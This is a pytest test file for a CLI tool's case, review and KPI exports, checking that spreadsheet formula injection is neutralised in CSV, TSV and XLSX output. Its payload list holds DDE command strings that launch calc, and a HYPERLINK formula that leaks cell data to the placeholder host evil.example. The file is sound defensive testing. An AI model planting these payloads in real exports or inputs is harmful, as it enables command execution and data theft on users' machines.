"""Issue 9 §4: formula injection. Text a buyer or a colleague typed (``=cmd|' /C calc'!A0``,
``@SUM(…)``, ``+…``, ``-…``) must never reach a spreadsheet as a formula: case export, review
export and kpi export (csv, csv --excel, xlsx), masked and with --reveal."""

from __future__ import annotations

import csv
import io

import pytest

from asx.testing import invoke

NOW = "2026-11-20T10:00:00+08:00"
ENV = {"ASX_NOW": NOW, "ASX_AGENT": "李主管"}
EVIL = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "\t=1+1", "\r=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _dangerous(cell: str) -> bool:
    if not cell or cell[0] not in FORMULA_START:
        return False
    try:
        float(cell)  # a plain negative number is data
        return False
    except ValueError:
        return True


@pytest.fixture(scope="module")
def evil(tmp_path_factory):
    """One workspace (built once for the module) whose buyers, phones, items, texts and an agent's
    name are formulas."""
    ws = tmp_path_factory.mktemp("evil") / "ws"
    env = {**ENV, "ASX_USER_CONFIG": str(ws.parent / "user.toml")}
    assert invoke(["init", str(ws), "--me", "李主管"], env=env).exit_code == 0
    assert invoke(["agent", "add", "李主管", "--role", "supervisor"], cwd=ws, env=env).exit_code == 0
    assert invoke(["agent", "add", "=cmd|' /C calc'!A0", "--role", "agent"], cwd=ws, env=env).exit_code in (0, 2)
    # (issue 21: a name with '/' is refused; a formula-looking name without one is still accepted)
    assert invoke(["agent", "add", "=cmd|' -C calc'!A0", "--role", "agent"], cwd=ws, env=env).exit_code == 0
    assert invoke(["agent", "add", "萌萌", "--role", "agent"], cwd=ws, env=env).exit_code == 0
    for i, text in enumerate(EVIL):
        r = invoke(["--as", "萌萌", "case", "add", "--category", "quality", "--order", f"39000{i}", "--buyer", text,
                    "--phone", text, "--summary", text, "--at", "2026-11-10T10:00:00+08:00"], cwd=ws, env=env)
        assert r.exit_code == 0, r
        r = invoke(["--as", "萌萌", "review", "add", "--tid", f"T{i}", "--created", "2026-11-10T09:00",
                    "--result", "negative", "--buyer", text, "--phone", text, "--item", text, "--content", text],
                   cwd=ws, env=env)
        assert r.exit_code == 0, r
    return ws


def _csv_cells(text: str, delimiter: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter))
    assert len({len(r) for r in rows}) == 1, "a cell broke its row (CR/LF/tab injection)"
    return [c for row in rows for c in row]


@pytest.mark.parametrize("cmd", [["case", "export"], ["case", "export", "--reveal"], ["review", "export"],
                                 ["review", "export", "--reveal"], ["case", "list"], ["review", "list"],
                                 ["kpi", "export", "-p", "2026-11"], ["kpi", "export", "-p", "2026-11", "--by", "day"]])
@pytest.mark.parametrize("fmt", [["-f", "csv"], ["-f", "csv", "--excel"], ["-f", "tsv"]])
def test_csv_exports_neutralise_formulas(evil, tmp_path, cmd, fmt):
    out = tmp_path / "x.csv"
    r = invoke([*cmd, *fmt, "-o", str(out)], cwd=evil, env=ENV)
    assert r.exit_code == 0, r
    text = out.read_bytes().decode("utf-8-sig")
    # (tsv: cells are tab-separated on one line; csv: parsed as Excel would)
    cells = _csv_cells(text, "\t" if "tsv" in fmt else ",")
    assert not [c for c in cells if _dangerous(c)], [c for c in cells if _dangerous(c)][:5]
    if "--reveal" in cmd:  # the text is there, defused, not lost
        assert any(c == "'=cmd|' /C calc'!A0" for c in cells), cells[:40]


def test_kpi_xlsx_has_no_formula_cells(evil, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "k.xlsx"
    r = invoke(["kpi", "export", "-p", "2026-11", "--xlsx", "-o", str(out)], cwd=evil, env=ENV)
    assert r.exit_code == 0, r
    wb = openpyxl.load_workbook(out)
    formulas = [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row
                if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("="))
                and c.data_type != "s"]
    assert formulas == [], formulas[:5]
    names = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "=cmd|' -C calc'!A0" in names  # kept as text
